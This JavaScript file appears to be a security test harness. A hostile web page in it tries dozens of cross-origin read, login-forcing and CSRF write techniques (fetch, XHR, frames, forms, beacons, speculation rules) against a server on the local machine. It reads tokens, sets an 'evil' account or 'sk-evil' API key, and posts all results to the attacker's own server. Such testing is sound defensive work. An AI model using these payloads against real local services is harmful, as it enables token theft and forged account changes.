// Everything a page can do to a server on this machine. `RUN` says where: `home` is the attacker's own server, `target`
// the one attacked; `{}` in it stands for the attack's name. Each attack gives back what it could read, as text.
'use strict'
const at = (name, path) => RUN.target.replace('{}', name) + path
const token = name => at(name, `/token?min_ttl=${ATTACKS.findIndex(([one]) => one === name) + 1}`) // no two alike: nothing is shared
const login = name => at(name, `/login?account=${name}`)
const logout = name => at(name, '/logout')
const bounce = (code, url) => `${RUN.home}/to/${code}?${encodeURIComponent(url)}`
const JSON_LOGIN = '{"account":"evil","flow":"device"}'
const KEY = '{"kind":"api_key","api_key":"sk-evil"}'

const put = (tag, members = {}, parent = document.body) => new Promise(done => {
  const made = Object.assign(document.createElement(tag), members)
  made.onload = made.onerror = event => done(event.type)
  parent.append(made)
})
const link = (rel, href, members = {}) => put('link', { rel, href, ...members }, document.head)
const soon = () => new Promise(done => setTimeout(done, 200)) // for what tells nobody that it is done
const read = (url, options) => fetch(url, options).then(answer => answer.text())
const style = text => { document.head.append(Object.assign(document.createElement('style'), { textContent: text })) }
const speculate = (how, url) => {
  const rules = JSON.stringify({ [how]: [{ urls: [url], eagerness: 'immediate' }] })
  document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }))
  return soon()
}
const xhr = (method, url, prepare = () => {}) => new Promise(done => {
  const asked = new XMLHttpRequest()
  asked.open(method, url)
  asked.withCredentials = true
  prepare(asked)
  asked.onloadend = () => done(asked.responseText)
  asked.send()
})
const frame = async (url, members = {}) => {
  const made = Object.assign(document.createElement('iframe'), { src: url, ...members })
  document.body.append(made)
  await new Promise(done => { made.onload = done })
  try { return made.contentDocument.body.innerText } catch { return '' }
}
const submit = (method, enctype, url, name, value, target) => {
  if (target !== '_blank') document.body.append(Object.assign(document.createElement('iframe'), { name: target }))
  const form = Object.assign(document.createElement('form'), { method, enctype, action: url, target })
  form.append(Object.assign(document.createElement('input'), { name, value }))
  document.body.append(form)
  form.submit()
  return soon()
}
const PLAIN = ['{"account":"evil","x":"', '"}'] // text/plain makes `name=value` of it: JSON with an equals sign
const worker = (source) => new Promise((done, fail) => {
  const made = new Worker(URL.createObjectURL(new Blob([source])))
  made.onmessage = event => done(event.data)
  made.onerror = fail
})

const ATTACKS = [
  // reading
  ['fetch', n => read(token(n))],
  ['fetch-credentials', n => read(token(n), { credentials: 'include' })],
  ['fetch-no-cors', n => read(token(n), { mode: 'no-cors', credentials: 'include' })],
  ['fetch-with-key', n => read(token(n), { headers: { Authorization: 'Bearer x' } })],
  ['fetch-forwarded', n => read(token(n), { headers: { 'X-Forwarded-For': '127.0.0.1' } })],
  ['fetch-redirected', n => read(bounce(302, token(n)))],
  ['xhr', n => xhr('GET', token(n))],
  ['script', async n => { await put('script', { src: token(n) }); return window.leaked }],
  ['module', n => put('script', { type: 'module', src: token(n) })],
  ['stylesheet', n => link('stylesheet', token(n))],
  ['preload', n => link('preload', token(n), { as: 'image' })],
  ['modulepreload', n => link('modulepreload', token(n))],
  ['import-scripts', n => worker(`importScripts(${JSON.stringify(token(n))}); postMessage(self.leaked)`)],
  ['fetch-in-worker', n => worker(`fetch(${JSON.stringify(token(n))}).then(a => a.text()).then(postMessage, () => postMessage(''))`)],
  ['font', n => { style(`@font-face{font-family:f;src:url(${token(n)})}`); document.fonts.load('1em f').catch(() => {}); return soon() }],
  ['css-image', n => { style(`body{background:url(${token(n)})}`); return soon() }],
  ['css-import', n => { style(`@import url(${token(n)})`); return soon() }],
  ['event-source', n => new Promise(done => {
    const source = new EventSource(token(n), { withCredentials: true })
    source.onmessage = source.onerror = event => { source.close(); done(event.data) }
  })],
  ['web-socket', n => new Promise(done => {
    const socket = new WebSocket(token(n).replace('http', 'ws'))
    socket.onmessage = socket.onerror = event => done(event.data)
  })],
  ['frame', n => frame(token(n))],
  ['frame-without-credentials', n => frame(token(n), { credentialless: true })],
  ['frame-page', n => frame(at(n, '/'))],
  ['object-page', n => put('object', { data: at(n, '/'), type: 'text/html' })],
  ['object', n => put('object', { data: token(n), type: 'text/html' })],
  ['embed', n => put('embed', { src: token(n), type: 'text/html' })],
  ['open-token', n => { window.open(token(n)); return soon() }],
  ['open-redirected', n => { window.open(bounce(302, token(n))); return soon() }],
  ['open-refreshed', n => { window.open(`${RUN.home}/refresh?${encodeURIComponent(token(n))}`); return soon() }],
  // starting a login by looking at it
  ['img-login', n => put('img', { src: login(n) })],
  ['img-login-cors', n => put('img', { crossOrigin: 'use-credentials', src: login(n) })],
  ['img-login-redirected', n => put('img', { src: bounce(302, login(n)) })],
  ['image-button-login', n => put('input', { type: 'image', src: login(n) })],
  ['audio-login', n => { new Audio(login(n)).load(); return soon() }],
  ['frame-login', n => frame(login(n))],
  ['object-login', n => put('object', { data: login(n), type: 'text/html' })],
  ['fetch-login', n => read(login(n), { mode: 'no-cors', credentials: 'include' })],
  ['prefetch-login', n => link('prefetch', login(n))],
  ['speculation-prefetch-login', n => speculate('prefetch', login(n))],
  ['speculation-prerender-login', n => speculate('prerender', login(n))],
  ['form-get-login', n => submit('get', '', at(n, '/login'), 'account', n, n)],
  // writing
  ['post-plain', n => read(at(n, '/login'), { method: 'POST', mode: 'no-cors', body: JSON_LOGIN })],
  ['post-json', n => read(at(n, '/login'), { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON_LOGIN })],
  ['post-form', n => read(logout(n), { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ account: 'default' }) })],
  ['post-empty', n => read(logout(n), { method: 'POST', mode: 'no-cors', credentials: 'include' })],
  ['post-redirected', n => read(bounce(307, logout(n)), { method: 'POST', mode: 'no-cors' })],
  ['post-keepalive', n => read(logout(n), { method: 'POST', mode: 'no-cors', keepalive: true })],
  ['xhr-post', n => xhr('POST', logout(n))],
  ['put', n => read(at(n, '/credential'), { method: 'PUT', headers: { 'Content-Type': 'application/json' }, body: KEY })],
  ['delete', n => read(at(n, '/login/nothing'), { method: 'DELETE', credentials: 'include' })],
  ['beacon', n => { navigator.sendBeacon(logout(n)); return soon() }],
  ['beacon-plain', n => { navigator.sendBeacon(at(n, '/login'), JSON_LOGIN); return soon() }],
  ['fetch-later', n => { fetchLater(logout(n), { method: 'POST', mode: 'no-cors', activateAfter: 0 }); return soon() }],
  ['ping', n => {
    document.body.append(Object.assign(document.createElement('iframe'), { name: n }))
    Object.assign(document.createElement('a'), { href: `${RUN.home}/nothing`, target: n, ping: logout(n) }).click()
    return soon()
  }],
  ['csp-report', n => frame(`${RUN.home}/reports?${encodeURIComponent(logout(n))}`)],
  ['form-post', n => submit('post', 'application/x-www-form-urlencoded', logout(n), 'account', 'default', n)],
  ['form-empty', n => submit('post', 'application/x-www-form-urlencoded', logout(n), '', '', n)], // as our own page sends it
  ['form-plain', n => submit('post', 'text/plain', at(n, '/login'), ...PLAIN, n)],
  ['form-multipart', n => submit('post', 'multipart/form-data', at(n, '/credential'), 'kind', 'api_key', n)],
  ['form-redirected', n => submit('post', 'text/plain', bounce(307, logout(n)), ...PLAIN, n)],
  ['window-post', n => submit('post', 'application/x-www-form-urlencoded', logout(n), 'account', 'default', '_blank')],
  ['window-empty', n => submit('post', 'application/x-www-form-urlencoded', logout(n), '', '', '_blank')],
  ['window-plain', n => submit('post', 'text/plain', at(n, '/login'), ...PLAIN, '_blank')],
  ['window-multipart', n => submit('post', 'multipart/form-data', at(n, '/credential'), 'kind', 'api_key', '_blank')],
  ['window-redirected', n => submit('post', 'text/plain', bounce(307, logout(n)), ...PLAIN, '_blank')],
  ['window-get', n => submit('get', '', at(n, '/logout'), 'account', 'default', '_blank')]
]

// All routes, as fetches: [method, path] in RUN.calls.
const call = async ([method, path]) => {
  const simple = ['GET', 'POST'].includes(method)
  const tries = [{ credentials: 'include' }, ...(simple ? [{ mode: 'no-cors', credentials: 'include' }] : [])]
  const got = await Promise.all(tries.map(options => read(RUN.target + path, { method, ...options }).catch(() => '')))
  return got.join('')
}

const within = (ms, promise) => Promise.race([promise, new Promise(done => setTimeout(done, ms, ''))])
const tried = (name, attack) => within(RUN.patience, Promise.resolve().then(attack).catch(() => '')).then(seen => [name, String(seen ?? '')])
const chosen = list => Promise.all(list.map(([name, attack]) => tried(name, () => attack(name))))
const opens = ([name]) => name.startsWith('open-') || name.startsWith('window-')
const all = async () => {
  if (RUN.calls) return chosen(RUN.calls.map(one => [one.join(' '), () => call(one)]))
  const wanted = ATTACKS.filter(([name]) => !RUN.only || RUN.only.includes(name))
  const here = await chosen(wanted.filter(one => !opens(one)))
  return [...here, ...await chosen(wanted.filter(opens))] // last: a page behind others is not let look ahead
}
all().then(got =>
  fetch(`${RUN.home}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ run: RUN.id, got: Object.fromEntries(got) }) }))
